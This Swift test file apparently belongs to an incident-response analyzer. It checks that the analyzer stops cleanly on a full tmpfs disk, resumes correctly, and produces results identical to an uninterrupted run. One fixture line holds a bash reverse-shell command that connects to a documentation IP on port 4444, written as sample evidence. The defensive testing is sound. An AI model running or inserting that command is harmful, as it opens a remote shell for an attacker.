import Foundation
import TestSupport
import Testing

/// A disk that fills up while the analysis writes; mounting one needs root.
@Suite(.enabled(if: geteuid() == 0, "needs root to mount a small file system"))
struct FullDiskTests {
  @Test func aDiskThatFillsUpDuringTheAnalysisIsNoPropertyOfTheEvidence() throws {
    let folder = try TemporaryFolder()
    let disk = folder.path + "/disk"
    try FileManager.default.createDirectory(atPath: disk, withIntermediateDirectories: true)
    let mounted = try runProgram("/bin/mount", ["-t", "tmpfs", "-o", "size=4m", "none", disk])
    guard mounted.status == 0 else { try Test.cancel("cannot mount here: \(mounted.errors)") }
    defer { _ = try? runProgram("/bin/umount", ["-l", disk]) }
    let lines = (0..<300_000).map { "line \($0) of a long log\n" }.joined()
    try folder.write("plain/log.txt", lines)
    try folder.write("in/small.txt", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n")
    let packed = try runProgram(
      "/bin/bash", ["-c", "tar -C plain -cz . > in/log.tar.gz && stat -c %s in/log.tar.gz"], in: folder.path)
    #expect((Int(packed.output.dropLast()) ?? .max) < 3 << 20)
    let arguments = ["run", folder.path + "/in", "-o", folder.path + "/out", "--store", disk + "/store", "--case", "c"]
    let full = try runProgram(irAnalyze, arguments)
    #expect(full.status == 70 && full.errors.contains("No space left on device"))
    #expect(full.errors.contains("run again to resume"))
    #expect(try runProgram(irAnalyze, ["verify", "-q", "--store", disk + "/store"]).status == 0)
    #expect(try runProgram("/bin/mount", ["-o", "remount,size=64m", disk]).status == 0)
    let resumed = try runProgram(irAnalyze, arguments)
    #expect(resumed.status == 0 || resumed.status == 2, "\(resumed.errors)")
    let whole = try runProgram(
      irAnalyze,
      ["run", folder.path + "/in", "-o", folder.path + "/whole", "--store", folder.path + "/store", "--case", "c"])
    #expect(whole.status == resumed.status)
    for name in ["findings.jsonl", "timeline.jsonl", "incident.json"] {
      let one = FileManager.default.contents(atPath: "\(folder.path)/out/\(name)")
      #expect(one != nil && one == FileManager.default.contents(atPath: "\(folder.path)/whole/\(name)"))
    }
  }
}
